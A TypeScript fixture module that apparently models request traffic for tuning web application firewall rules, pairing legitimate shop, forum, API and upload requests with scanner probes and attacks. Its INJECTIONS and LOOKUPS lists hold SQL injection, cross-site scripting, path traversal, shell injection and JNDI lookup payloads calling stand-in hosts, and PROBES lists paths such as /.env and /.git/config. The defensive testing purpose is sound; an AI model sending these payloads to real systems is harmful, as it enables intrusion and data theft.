/** The headers of each kind of client: the shares of requests with a Cookie, an own Referer, a token. */
export const SENDERS = {
  visitor: { cookie: 0.8, referer: 0.85, token: 0 },
  staff: { cookie: 1, referer: 0.95, token: 0 },
  guest: { cookie: 0.15, referer: 0, token: 0 },
  app: { cookie: 0, referer: 0, token: 0.9 },
  partner: { cookie: 0, referer: 0, token: 1 },
  machine: { cookie: 0, referer: 0, token: 0 },
} as const;

/** A sort of request. All of its rules match the same request. */
export interface Story {
  readonly sender: keyof typeof SENDERS;
  /** Left out: the user agent of the client. */
  readonly agent?: string;
  readonly method: string;
  /** `{n}` stands for a number and `{s}` for words with hyphens. */
  readonly paths: readonly string[];
  /** Each rule with the variable that it names: `ARGS:title`, `REQUEST_COOKIES:consent`, or an operator. */
  readonly rules: readonly (readonly [ruleId: string, key: string])[];
  /** Left out: `application/x-www-form-urlencoded` if the method has a body. */
  readonly contentType?: string;
  readonly texts: readonly string[];
}

const SHOP = ["/products/{n}", "/category/{s}", "/category/{s}/{n}", "/", "/blog/{s}", "/cart", "/help/{s}"];
const RICH_TEXT = [
  '<p>Our <strong>winter sale</strong> begins on Friday.</p><img src="/media/831.jpg" alt="a red scarf">',
  '<h2>How to wash wool</h2><ul><li>30 °C</li><li>no dryer</li></ul><a href="https://care.example/wool">Care</a>',
  '<table style="width:100%"><tr><td>S</td><td>34/36</td></tr></table><p>&nbsp;</p>',
  "<p>Copy <code>document.querySelector('#size')</code> into the theme.</p><hr/>",
  '<div class="note">Opening hours (Mon-Fri): 9-18; Sat: 10-14</div><br /><em>closed on Sundays</em>',
];
const PROSE = [
  "Great shoes -- would buy again",
  "it's 1 or 2 sizes too small, and the colour isn't #ff0000",
  "size 42/43 and not 44; order (2) came late",
  "I'd select the blue one from this range",
  "O'Brien & sons: \"the best of '79 and '80\"",
  "works with C++ && Java, command line too",
  "5 > 4 stars; delivery = 1 day",
];
const PASSWORDS = [
  "Tr0ub4dor&3'x",
  "b/ba>fPq'S",
  "hunter2--",
  'p@ss"w0rd<1',
  "A)>Ls;99",
  "l1ke(this)=or'that",
];
/** Texts of attacks: injections of SQL, script, traversal, shell, template and lookup. */
const INJECTIONS = [
  "1' AND 4821=4821-- kQzT",
  "-1) UNION ALL SELECT NULL,CONCAT(0x7171,user(),0x7171),NULL#",
  "1;SELECT PG_SLEEP(5)--",
  "x' OR SLEEP(5) AND 'a'='a",
  "1/**/ORDER/**/BY/**/12--",
  '"><svg onload=confirm(1)>',
  "<img src=q onerror=prompt(8)>",
  "../../../../../../etc/passwd",
  ";ping -c 3 198.51.100.4;",
  "$(sleep 5)",
  "{{7*191}}",
  "${jndi:ldap://198.51.100.77/o}",
];
const PROBES =
  "/.git/config /.env /wp-login.php /phpmyadmin/ /backup.sql /server-status /admin/config.php /cgi-bin/test.cgi /actuator/env /vendor/.htaccess /old/".split(
    " ",
  );
const SEARCHES = [
  '"wool socks" -cotton',
  "java database (jdbc)",
  "union jack t-shirt",
  "table lamp; drop shade",
  "a or b",
];
const CONSENTS = [
  "{v:'4',necessary:true,statistics:false,method:'explicit',stamp:'k8s/Aq0='}",
  '{"v":2,"necessary":true,"marketing":false,"at":"2026-11-02T10:11:12Z"}',
];
const QUERIES = [
  "query Cart($id: ID!) { cart(id: $id) { lines { sku qty price { amount } } } }",
  "mutation Add($sku: String!) { add(sku: $sku) { lines { sku qty } } }",
];
const LANDINGS = ["https://partner.example/winter", "https://www.brand.example/shop?utm_source=mail"];
const FILTERS = ["color in ('red','blue')", "(price>=10) and (stock>0)"];
const LOOKUPS = ["${jndi:ldap://198.51.100.77/o}", "${${lower:j}ndi:dns://x.evil.example/a}"];
const CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";

type Rules = Story["rules"];
const on = (key: string, ...ruleIds: readonly string[]): Rules => ruleIds.map((ruleId) => [ruleId, key]);

function story(
  request: Pick<Story, "sender" | "method" | "paths"> & Partial<Story>,
  rules: Rules,
  texts: readonly string[],
): Story {
  return { ...request, rules, texts };
}

const from = (sender: Story["sender"], method: string, ...paths: readonly string[]) => ({
  sender,
  method,
  paths,
});
const JSON_BODY = { contentType: "application/json" };

/** Rules that match legitimate requests, clients that repeat, crawlers, scanners and attacks. */
export const STORIES = {
  form: story(from("visitor", "POST", "/products/{n}/reviews"), on("ARGS:title", "942440"), PROSE),
  "rich-text": story(
    from("visitor", "POST", "/forum/topics/{n}/posts"),
    on("ARGS:content", "941320", "942430", "942130"),
    RICH_TEXT,
  ),
  search: story(from("visitor", "GET", "/search"), on("ARGS:q", "942110"), SEARCHES),
  cookie: story(from("visitor", "GET", ...SHOP), on("REQUEST_COOKIES:consent", "942260", "942370"), CONSENTS),
  upload: story(
    {
      ...from("visitor", "POST", "/account/{n}/documents"),
      contentType: "multipart/form-data; boundary=----form7f3a",
    },
    on("FILES:file", "920120"),
    ["offer (2) v;3=signed.pdf", "John's scan; page=1.jpg", 'plan "final".docx'],
  ),
  api: story(
    { ...from("app", "POST", "/graphql"), agent: "ShopApp/5.2.1 (iPhone; iOS 26.1)", ...JSON_BODY },
    on("ARGS:query", "942430", "932100"),
    QUERIES,
  ),
  partner: story(
    {
      ...from("partner", "POST", "/b2b/orders", "/b2b/orders/{n}"),
      agent: "python-requests/2.32.3",
      ...JSON_BODY,
    },
    on("REQUEST_HEADERS:User-Agent", "913101"),
    ["python-requests"],
  ),
  "back-office": story(
    from("staff", "POST", "/admin/articles/{n}/edit"),
    on("ARGS:body", "941320", "942430"),
    RICH_TEXT,
  ),
  campaign: story(from("guest", "GET", "/l/{s}"), on("ARGS:url", "931130"), LANDINGS),
  repeat: story(from("guest", "GET", "/feed/export"), on("ARGS:since", "942440"), [
    "2026-11-01 -- 2026-11-30",
  ]),
  crawler: story(
    { ...from("machine", "GET", ...SHOP), agent: CRAWLER },
    on("ARGS:filter", "942260"),
    FILTERS,
  ),
  probe: story(
    { ...from("machine", "GET", ...PROBES), agent: "Mozilla/5.0 zgrab/0.x" },
    [...on("REQUEST_FILENAME", "930130"), ...on("REQUEST_HEADERS:User-Agent", "913100")],
    ["zgrab"],
  ),
  exploit: story(from("machine", "POST", "/products/{n}/reviews"), on("ARGS:title", "944150"), LOOKUPS),
  injection: story(
    from("machine", "GET", "/search"),
    on("ARGS:q", "942100", "942190"),
    INJECTIONS.slice(0, 5),
  ),
  stuffing: story(from("machine", "POST", "/account/login"), on("ARGS:password", "942130"), PASSWORDS),
  "deep-scan": story(
    from("machine", "GET", ...SHOP, "/search", "/account/login", "/products/{n}/reviews", "/api/v1/orders"),
    [
      ["942100", "ARGS:id"],
      ["941100", "ARGS:q"],
      ["930100", "ARGS:file"],
      ["932100", "ARGS:url"],
    ],
    INJECTIONS,
  ),
} satisfies Record<string, Story>;

export type StoryName = keyof typeof STORIES;
